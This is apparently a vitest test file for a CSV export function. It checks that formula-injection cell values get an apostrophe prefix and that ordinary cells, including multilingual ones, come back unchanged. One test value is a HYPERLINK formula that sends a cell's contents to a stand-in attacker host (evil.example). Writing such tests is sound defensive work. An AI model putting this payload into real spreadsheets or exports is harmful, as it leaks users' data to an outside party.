import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { csvRows } from '@/lib/transfer/out/tables/csv';

const live = [
  '=1+1","b',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=HYPERLINK("https://evil.example?x="&A1,"x")',
  '\uff1d1+1',
  '\t=1',
  '\r=1',
  '\n=1',
];

test.each(live)('a spreadsheet takes %j for text', (cell) => {
  const [row] = Papa.parse<string[]>(csvRows([[cell, 'x']])).data as [string[]];
  expect(row[0]).toBe(`'${cell}`);
});

test.each(['"=1"', ';=1', 'a","=1+1', '%0A=1', '두 줄\n"따옴표", 쉼표', ''])(
  '%j comes back as it is',
  (cell) => {
    const rows = Papa.parse<string[]>(
      csvRows([
        ['a', cell],
        ['b', cell],
      ]).trimEnd(),
    ).data;
    expect(rows).toEqual([
      ['a', cell],
      ['b', cell],
    ]);
  },
);
